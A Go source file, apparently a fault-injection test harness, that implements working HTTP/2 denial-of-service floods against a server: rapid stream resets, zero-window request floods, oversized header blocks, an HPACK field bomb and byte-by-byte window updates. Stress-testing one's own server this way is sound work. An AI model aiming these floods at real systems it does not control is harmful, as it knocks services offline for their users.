package faults

import (
	"bytes"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A flooder is one side of a connection of HTTP/2 that keeps no rules.
type flooder struct {
	*http2.Framer
	packed bytes.Buffer
	table  *hpack.Encoder
	next   uint32 // stream
}

// framedFloods speak HTTP/2 and read nothing, unless they say so.
func framedFloods() []attack {
	closed := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
	forever := func(f *flooder, one func(i uint32) error) error {
		for i := uint32(0); ; i++ {
			if err := one(i); err != nil {
				return err
			}
		}
	}
	return []attack{
		{name: "pages into no window", one: flood2(func(f *flooder) error { return f.many(128, "GET", "/docs", true) }, closed)},
		{name: "refusals into no window", one: flood2(func(f *flooder) error { return f.many(128, "GET", "/pets", true) }, closed)},
		{name: "forms without end", one: flood2(func(f *flooder) error {
			if err := f.many(32, "POST", "/console/signin", false); err != nil {
				return err
			}
			for stream := uint32(1); stream < 64; stream += 2 {
				if err := f.WriteData(stream, false, []byte("key="+strings.Repeat("x", 8<<10))); err != nil {
					return err
				}
			}
			return nil
		})},
		{name: "15 KB of heads", one: flood2(func(f *flooder) error {
			return forever(f, func(uint32) error {
				f.next += 2
				block := append(f.head("GET", "/pets"), bytes.Repeat(f.field("x-field", strings.Repeat("x", 39)), 170)...)
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next - 2, BlockFragment: block, EndHeaders: true, EndStream: true})
			})
		}, closed)},
		{name: "resets", one: flood2(func(f *flooder) error {
			return forever(f, func(uint32) error {
				if err := f.request("GET", "/pets", true); err != nil {
					return err
				}
				return f.WriteRSTStream(f.next-2, http2.ErrCodeCancel)
			})
		})},
		{name: "a bomb of fields", one: flood2(bomb)},
		{name: "windows byte by byte", one: flood2(func(f *flooder) error {
			if err := f.many(32, "GET", "/docs", true); err != nil {
				return err
			}
			return forever(f, func(i uint32) error { return f.WriteWindowUpdate(1+2*(i%32), 1) })
		}, closed)},
	}
}

// flood2 begins HTTP/2 with settings.
func flood2(then func(*flooder) error, settings ...http2.Setting) func(net.Conn) error {
	return func(c net.Conn) error {
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		f := &flooder{Framer: http2.NewFramer(c, c), next: 1}
		f.AllowIllegalWrites = true
		f.table = hpack.NewEncoder(&f.packed)
		if err := f.WriteSettings(settings...); err != nil {
			return err
		}
		return then(f)
	}
}

// field returns a field as it goes over the wire.
func (f *flooder) field(name, value string) []byte {
	f.packed.Reset()
	_ = f.table.WriteField(hpack.HeaderField{Name: name, Value: value}) // into memory
	return bytes.Clone(f.packed.Bytes())
}

func (f *flooder) head(method, path string) (block []byte) {
	for _, h := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", "x"}, {":path", path}, {"content-type", "application/x-www-form-urlencoded"}} {
		block = append(block, f.field(h[0], h[1])...)
	}
	return block
}

func (f *flooder) request(method, path string, whole bool) error {
	f.next += 2
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next - 2, BlockFragment: f.head(method, path), EndHeaders: true, EndStream: whole})
}

func (f *flooder) many(n int, method, path string, whole bool) error {
	for range n {
		if err := f.request(method, path, whole); err != nil {
			return err
		}
	}
	return nil
}

// bomb sends one field of 4,000 bytes, and then names it by one byte each time.
func bomb(f *flooder) error {
	large := f.field("x-large", strings.Repeat("x", 4000))
	again := bytes.Repeat(f.field("x-large", strings.Repeat("x", 4000)), 4000)
	for {
		f.next += 2
		block := append(f.head("GET", "/pets"), append(large, again...)...)
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next - 2, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		large = nil
	}
}
